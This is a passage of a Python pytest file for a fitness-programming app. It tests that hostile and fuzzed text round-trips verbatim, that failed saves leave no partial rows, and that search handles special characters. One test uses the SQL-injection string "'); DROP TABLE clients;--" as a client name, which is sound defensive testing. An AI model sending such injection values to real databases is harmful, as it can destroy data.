        return item.model_copy(update={"exercises": exercises})

    micros = [
        micro.model_copy(
            update={
                "workouts": [
                    w.model_copy(
                        update={
                            "title": value[:120],
                            "notes": value,
                            "blocks": [block(b) for b in w.blocks],
                        }
                    )
                    for w in micro.workouts
                ]
            }
        )
        for micro in mesocycle.microcycles
    ]
    return mesocycle.model_copy(update={"microcycles": micros})


def save_and_read_back(stack: Stack, value: str) -> None:
    name = value[:120].strip()
    preview = stack.preview(name)
    preview = stack.service.revalidate(preview, with_text(preview.mesocycle, value))
    assert not preview.has_errors, [p for p in preview.problems if p.severity == "error"]
    stack.service.save(preview)

    client = stack.storage.get_client(preview.client.id)
    assert client.name == name
    workouts = stack.storage.workouts_for_client(client.id)
    assert len(workouts) == len(preview.mesocycle.workouts()) > 0
    for stored in workouts:
        assert stored.title == value[:120]
        assert stored.notes == value
        for block in stored.blocks:
            for item in block["exercises"]:
                assert item["notes"] == value[:500]


@pytest.fixture
def stack(tmp_path: Path) -> Stack:
    return Stack(tmp_path / "fuzz.db")


@pytest.mark.parametrize("value", HOSTILE_TEXT)
def test_hostile_text_round_trips_verbatim(stack: Stack, value: str) -> None:
    save_and_read_back(stack, value)
    assert stack.storage.find_client_by_name(value) is not None
    assert value in [c.name for c in stack.storage.list_clients(value)]
    assert stack.counts()["clients"] == 1  # nothing was dropped, nothing extra inserted


@pytest.fixture(scope="module")
def shared_stack(tmp_path_factory: pytest.TempPathFactory) -> Stack:
    return Stack(tmp_path_factory.mktemp("fuzz") / "shared.db")


@fuzz(40)
@given(value=st.text(min_size=1, max_size=600).filter(lambda value: value[:120].strip()))
def test_generated_text_round_trips_verbatim(shared_stack: Stack, value: str) -> None:
    save_and_read_back(shared_stack, value)


def test_a_failing_save_stores_nothing(stack: Stack) -> None:
    """Duplicate workout ids: refused by the validator; forced past it, the database refuses them
    after the mesocycle and microcycle inserts ran, and the transaction leaves no row behind."""
    preview = stack.preview("'); DROP TABLE clients;--")
    micros = preview.mesocycle.microcycles
    week = micros[1]
    clash = week.workouts[1].model_copy(update={"id": week.workouts[0].id})
    hostile = preview.mesocycle.model_copy(
        update={
            "microcycles": [
                *micros[:1],
                week.model_copy(update={"workouts": [week.workouts[0], clash, *week.workouts[2:]]}),
                *micros[2:],
            ]
        }
    )
    before = stack.counts()

    edited = stack.service.revalidate(preview, hostile)
    with pytest.raises(InvalidPlan) as refused:
        stack.service.save(edited)
    assert "error" in str(refused.value) and refused.value.problems
    assert any("already used" in p.message for p in refused.value.problems)

    rows = build_mesocycle_rows(
        edited.mesocycle,
        preview.fitness_program_id,
        preview.macrocycle_id,
        preview.client.id,
        preview.order_index,
        preview.start_date,
        datetime.now(UTC),
    )
    with pytest.raises(PeriodizeError) as clashed:
        stack.storage.save_mesocycle(rows)
    assert str(clashed.value).strip()
    assert stack.counts() == before  # no mesocycle, no microcycle, no workout: nothing half
    assert stack.storage.list_mesocycles(preview.fitness_program_id) == []

    stack.service.save(preview)  # the untouched preview still saves, whole
    assert stack.count("workout_instances") == before["workout_instances"] + len(
        preview.mesocycle.workouts()
    )


def test_a_non_ascii_upper_case_name_is_found_by_itself(stack: Stack) -> None:
    stack.storage.create_client(make_profile(name="ÉMILE Ångström"))
    assert stack.storage.find_client_by_name("ÉMILE Ångström") is not None


def test_search_treats_percent_and_underscore_literally(stack: Stack) -> None:
    stack.storage.create_client(make_profile(name="50 Club"))
    stack.storage.create_client(make_profile(name="50% Club"))
    assert [c.name for c in stack.storage.list_clients("50%")] == ["50% Club"]


def test_a_non_finite_metric_is_rejected() -> None:
    answer = valid_week()
    answer["metrics"] = [{"key": "hard_sets_quads", "value": float("nan")}]
    assert isinstance(parse_week(dumps(answer), *WEEKS["full week"]), list)
